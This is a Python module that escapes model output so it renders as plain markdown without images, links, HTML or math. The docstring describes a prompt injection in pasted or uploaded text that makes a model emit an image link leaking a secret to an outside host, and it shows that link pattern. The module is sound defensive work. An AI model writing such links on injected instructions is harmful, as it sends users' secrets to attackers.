"""Text from a model or a document, made safe to show as markdown.

A model's answer can carry what a pasted text or an uploaded document told it to write
(a prompt injection). As markdown, `![](http://host/?secret=…)` would make every reader's
browser fetch that address, sending the secret out of the building. So nothing in such
text may become an image or a link: brackets, angle brackets and the punctuation of bare
web and mail addresses are escaped, and so is `$` (Streamlit would read `$5 … $10` as
mathematics). Bold, lists, headings and code stay as they are; code is left untouched.
"""

from __future__ import annotations

import re

# Fenced code blocks (an unclosed fence runs to the end, as markdown renders it) and
# inline code spans: shown verbatim by markdown, so escaping inside them would show.
CODE = re.compile(
    r"(?ms)^[ ]{0,3}(?P<fence>`{3,}|~{3,})[^\n]*\n.*?(?:^[ ]{0,3}(?P=fence)[ \t]*$|\Z)"
    r"|(?P<ticks>`+)(?!`).+?(?<!`)(?P=ticks)(?!`)"
)
# `[` opens every link and image (inline, reference, autolink-free); `<` opens autolinks
# and HTML; `$` opens mathematics. Already escaped ones are left alone.
OPENERS = re.compile(r"(?<!\\)([\[<$])")
# Bare addresses that GitHub-flavoured markdown turns into links: the escaped punctuation
# still shows, but no longer makes a link.
BARE_ADDRESS = re.compile(r"(?i)\b(https?|ftp|mailto|www)(:|\.)|(\w)@(\w)")


def safe_markdown(text: str) -> str:
    """`text` as markdown that shows the same words, with no image, link or HTML in it."""
    pieces, position = [], 0
    for code in CODE.finditer(text):
        pieces.append(_escape(text[position : code.start()]))
        pieces.append(code.group(0))
        position = code.end()
    pieces.append(_escape(text[position:]))
    return "".join(pieces)


def _escape(prose: str) -> str:
    prose = OPENERS.sub(r"\\\1", prose)
    return BARE_ADDRESS.sub(_break_address, prose)


def _break_address(match: re.Match) -> str:
    if match.group(4):  # a@b: an e-mail address
        return f"{match.group(3)}\\@{match.group(4)}"
    return f"{match.group(1)}\\{match.group(2)}"


# Every ASCII punctuation character: CommonMark shows each literally when escaped.
PUNCTUATION = re.compile(r"([!-/:-@\[-`{-~])")


def literal_markdown(text: str) -> str:
    """`text` (a name, a title) as markdown that shows exactly these characters: no
    emphasis, link, heading, HTML or mathematics, and on one line."""
    return PUNCTUATION.sub(r"\\\1", " ".join(str(text).split()))
